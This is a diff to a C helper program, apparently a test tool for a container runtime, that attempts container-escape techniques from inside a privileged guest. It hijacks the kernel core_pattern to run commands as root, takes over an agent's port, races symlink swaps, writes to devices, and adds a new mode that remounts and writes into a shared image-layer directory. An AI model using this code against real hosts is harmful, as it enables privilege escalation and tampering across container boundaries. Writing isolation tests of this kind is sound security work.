@@ -2,8 +2,9 @@
 /*
  * What a privileged container does with what busybox has not. Built static; lies in a volume of the container.
  *
- *   guest steal PATH WHAT   let the guest's kernel run `PATH port WHAT` as root of the guest, by a core dump
- *   guest port WHAT         take the agent's port from process 1 and send garbage, or hellos with the host's own key
+ *   guest steal PATH WHAT   let the guest's kernel run `PATH root WHAT` as root of the guest, by a core dump
+ *   guest root WHAT         take the agent's port from process 1 and send `garbage`, or `hello`s with the host's own key; or
+ *                           `layers`: write into the images' share, and say into the file PATH.said how that went
  *   guest race DIRECTORY TARGET SECONDS   swap a directory and a link to TARGET while others write through it
  *   guest write FILE        write one byte at the beginning of a device or file; 1 when that is refused
  */
@@ -14,6 +15,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/mount.h>
 #include <sys/resource.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
@@ -33,7 +35,7 @@ static int steal(const char *path, const char *what)
 {
     char pattern[128];
     struct rlimit core = {RLIM_INFINITY, RLIM_INFINITY};
-    int length = snprintf(pattern, sizeof pattern, "|%s port %s", path, what);
+    int length = snprintf(pattern, sizeof pattern, "|%s root %s", path, what);
     int fd = open("/proc/sys/kernel/core_pattern", O_WRONLY);
     if (fd < 0 || write(fd, pattern, (size_t)length) != length)
         return fail("core_pattern");
@@ -106,6 +108,19 @@ static int port(const char *what)
     }
 }
 
+static int layers(const char *path)
+{
+    static const char directory[] = "/run/clearpod/layers", file[] = "/run/clearpod/layers/written";
+    char said[256];
+    snprintf(said, sizeof said, "%s.said", path);
+    int result = open(said, O_CREAT | O_WRONLY | O_TRUNC, 0644);
+    mount(NULL, directory, NULL, MS_REMOUNT, "");
+    mount(NULL, directory, NULL, MS_REMOUNT | MS_BIND, NULL);
+    int fd = open(file, O_CREAT | O_WRONLY, 0644);
+    dprintf(result, "%s\n", fd < 0 ? strerror(errno) : "written");
+    return close(result);
+}
+
 static int race(const char *directory, const char *target, int seconds)
 {
     char real[256], aside[256], file[300];
@@ -144,8 +159,8 @@ int main(int argc, char **argv)
 {
     if (argc == 4 && !strcmp(argv[1], "steal"))
         return steal(argv[2], argv[3]);
-    if (argc == 3 && !strcmp(argv[1], "port"))
-        return port(argv[2]);
+    if (argc == 3 && !strcmp(argv[1], "root"))
+        return strcmp(argv[2], "layers") ? port(argv[2]) : layers(argv[0]);
     if (argc == 5 && !strcmp(argv[1], "race"))
         return race(argv[2], argv[3], atoi(argv[4]));
     if (argc == 3 && !strcmp(argv[1], "write"))
